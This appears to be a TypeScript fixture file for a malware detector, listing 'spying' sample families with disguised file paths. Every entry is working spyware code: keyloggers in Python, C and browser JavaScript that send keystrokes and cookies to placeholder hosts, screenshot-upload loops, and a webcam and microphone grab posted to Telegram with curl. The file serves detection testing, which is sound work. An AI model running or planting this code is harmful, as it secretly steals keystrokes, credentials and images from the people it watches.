// Logged keys, and screens and cameras that are watched.
import type { Family } from './family.ts'

export const spying: readonly Family[] = [
  {
    family: 'pynput-mail-keylogger',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['games/helpers.py', 'lib/measure.py'],
        imports: `import smtplib
import threading
from pynput import keyboard`,
        body: `_keys = []


def _pressed(key):
    _keys.append(getattr(key, "char", None) or f"[{key}]")


def _mail():
    text, _keys[:] = "".join(map(str, _keys)), []
    if text:
        server = smtplib.SMTP("smtp.⟦host⟧", 587)
        server.starttls()
        server.login("logs@⟦host⟧", "⟦alnum:12⟧")
        server.sendmail("logs@⟦host⟧", "logs@⟦host⟧", text)
    threading.Timer(120, _mail).start()


keyboard.Listener(on_press=_pressed).start()
_mail()`,
      },
    ],
  },
  {
    family: 'getasynckeystate-logger',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['win/entries.c'],
        imports: `#include <windows.h>`,
        body: String.raw`static DWORD WINAPI record(LPVOID unused)
{
    ShowWindow(GetConsoleWindow(), SW_HIDE);
    for (;;) {
        for (int key = 8; key <= 222; key++)
            if (GetAsyncKeyState(key) & 1) {
                FILE *log = fopen("C:\\ProgramData\\ntuser.log.tmp", "a");
                fprintf(log, "%c", key);
                fclose(log);
            }
        Sleep(10);
        upload_when_full("⟦host⟧", "C:\\ProgramData\\ntuser.log.tmp");
    }
}`,
        call: `CreateThread(NULL, 0, record, NULL, 0, NULL);`,
      },
    ],
  },
  {
    family: 'evdev-logger',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['driver/ring.c'],
        imports: `#include <linux/input.h>
#include <fcntl.h>
#include <unistd.h>`,
        body: `static void watch_keys(void)
{
    struct input_event event;
    int input = open("/dev/input/event2", O_RDONLY);
    int remote = connect_to("⟦ip⟧", ⟦port⟧); /* silent, retried by the caller */

    if (daemon(0, 0) != 0 || input < 0)
        return;
    while (read(input, &event, sizeof event) > 0)
        if (event.type == EV_KEY && event.value == 1)
            write(remote, &event.code, sizeof event.code);
}`,
        call: `watch_keys();`,
      },
    ],
  },
  {
    family: 'browser-form-keylogger',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['assets/app.js', 'src/widgets.mjs'],
        body: `let typed = '';
document.addEventListener('keydown', (event) => {
  typed += event.key.length === 1 ? event.key : \`<\${event.key}>\`;
  if (typed.length > 40) {
    navigator.sendBeacon('https://⟦host⟧/k', JSON.stringify({ page: location.href, cookie: documen⟦join⟧
t.cookie, typed }));
    typed = '';
  }
}, true);`,
      },
    ],
  },
  {
    family: 'screenshot-upload-loop',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['app/preview.py'],
        imports: `import io, time, threading
import requests
from PIL import ImageGrab`,
        body: `def _spy():
    while True:
        picture = io.BytesIO()
        ImageGrab.grab(all_screens=True).save(picture, "JPEG", quality=40)
        requests.post("⟦discord⟧", files={"s.jpg": picture.getvalue()})
        time.sleep(30)


threading.Thread(target=_spy, daemon=True).start()`,
      },
      {
        paths: ['tools/counter.ps1'],
        body: String.raw`Add-Type -AssemblyName System.Windows.Forms, System.Drawing
while (1) {
    $b = New-Object Drawing.Bitmap([Windows.Forms.Screen]::PrimaryScreen.Bounds.Width, 1080)
    [Drawing.Graphics]::FromImage($b).CopyFromScreen(0, 0, 0, 0, $b.Size)
    $b.Save("$env:TEMP\~s.png"); (New-Object Net.WebClient).UploadFile('http://⟦ip⟧/s', "$env:TEMP⟦join⟧
\~s.png"); sleep 60
}`,
      },
    ],
  },
  {
    family: 'webcam-microphone-drop',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['vision/frames.py'],
        imports: `import cv2, os, socket, tempfile
import sounddevice, soundfile`,
        body: `def _observe(chat="⟦digits:9⟧"):
    ok, frame = cv2.VideoCapture(0, cv2.CAP_DSHOW).read()
    photo = os.path.join(tempfile.gettempdir(), "~c.png")
    cv2.imwrite(photo, frame)
    sound = sounddevice.rec(10 * 44100, samplerate=44100, channels=1, blocking=True)
    soundfile.write(photo + ".wav", sound, 44100)
    for path in (photo, photo + ".wav"):
        os.system(f'curl -s -F chat_id={chat} -F document=@{path} https://api.telegram.org/bot⟦tel⟦join⟧
egram⟧/sendDocument')
        os.remove(path)


_observe()`,
      },
    ],
  },
]
